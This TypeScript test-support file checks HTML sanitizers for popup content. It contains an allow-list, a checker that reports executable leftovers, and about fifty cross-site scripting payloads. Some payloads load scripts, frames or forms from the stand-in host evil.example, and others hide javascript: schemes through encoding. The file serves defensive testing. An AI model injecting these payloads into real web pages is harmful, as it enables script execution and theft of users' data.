// XSS payloads for popup content and a checker for what a sanitizer leaves, shared by the
// server's (sanitize-html) and the browser's (DOMPurify) sanitizer tests. The checker needs a DOM:
// use it from a test file that runs in jsdom.

// Written out rather than taken from popup-rules.ts, so a change there cannot loosen the check.
const allowedAttributes: Record<string, string[]> = {
  p: [],
  br: [],
  strong: [],
  b: [],
  em: [],
  i: [],
  u: [],
  s: [],
  ul: [],
  ol: [],
  li: [],
  h2: [],
  h3: [],
  h4: [],
  blockquote: [],
  span: [],
  a: ["href", "target", "rel", "title"],
  img: ["src", "alt", "width", "height"],
};

/** Parses HTML the way a browser would, without running anything (template content is inert). */
export function parseInert(html: string): DocumentFragment {
  const template = document.createElement("template");
  template.innerHTML = html;
  return template.content;
}

/** The scheme a browser would see, after dropping what it ignores (whitespace, controls). */
function schemeOf(url: string): string | null {
  // eslint-disable-next-line no-control-regex
  const cleaned = url.replace(/[\u0000-\u0020\u007f]+/g, "");
  const match = /^([a-z][a-z0-9+.-]*):/i.exec(cleaned);
  return match ? match[1]!.toLowerCase() : null;
}

/** Every way the sanitized HTML could still run code, as a list of findings (empty = safe). */
export function executableParts(html: string): string[] {
  const findings: string[] = [];
  if (/<\s*\/?\s*(script|style|iframe|object|embed|svg|math|form|base|meta|link)\b/i.test(html)) {
    findings.push(`dangerous tag in ${html}`);
  }
  for (const element of parseInert(html).querySelectorAll("*")) {
    const tag = element.tagName.toLowerCase();
    const allowed = allowedAttributes[tag];
    if (!allowed) {
      findings.push(`tag <${tag}>`);
      continue;
    }
    for (const attribute of Array.from(element.attributes)) {
      const name = attribute.name.toLowerCase();
      if (!allowed.includes(name)) findings.push(`attribute ${name} on <${tag}>`);
      if (name.startsWith("on")) findings.push(`event handler ${name}`);
      if (name === "href") {
        const scheme = schemeOf(attribute.value);
        if (scheme && !["http", "https", "mailto", "tel"].includes(scheme)) findings.push(`href scheme ${scheme}`);
        if (/^[\\/]{2}/.test(attribute.value.trim())) findings.push("protocol-relative href");
      }
      if (name === "src") {
        const scheme = schemeOf(attribute.value);
        if (scheme && !["http", "https"].includes(scheme)) findings.push(`src scheme ${scheme}`);
      }
    }
    if (tag === "a" && element.getAttribute("target") === "_blank") {
      const rel = (element.getAttribute("rel") ?? "").split(/\s+/);
      if (!rel.includes("noopener") || !rel.includes("noreferrer")) findings.push("target=_blank without noopener");
    }
  }
  return findings;
}

export const xssPayloads = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '<p onclick="alert(1)">click</p>',
  "<b onmouseover=alert(1)>hover</b>",
  "<img src=x onerror=alert(1)>",
  "<IMG SRC=\"javascript:alert('XSS');\">",
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  "<svg onload=alert(1)><circle r=1 /></svg>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=p><button>Go</button></form>',
  "<style>body{background:url(javascript:alert(1))}</style>",
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x61;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" \tjavascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="VBScript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https://ok.example" target="_blank" rel="opener">x</a>',
  '<a href="https://ok.example" target="_blank">x</a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<p><b><i><u>unclosed <img src=x onerror=alert(1)",
  "<<script>script>alert(1)<</script>/script>",
  "<div><p>nested <span onfocus=alert(1) tabindex=0>focus</span></div>",
  '<base href="https://evil.example/"><a href="page">x</a>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  "<!--<img src=x onerror=alert(1)>-->",
  "<template><img src=x onerror=alert(1)></template>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed">x</a>',
  '<img src="https://ok.example/a.png" onload="alert(1)" srcset="javascript:alert(1)">',
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
];
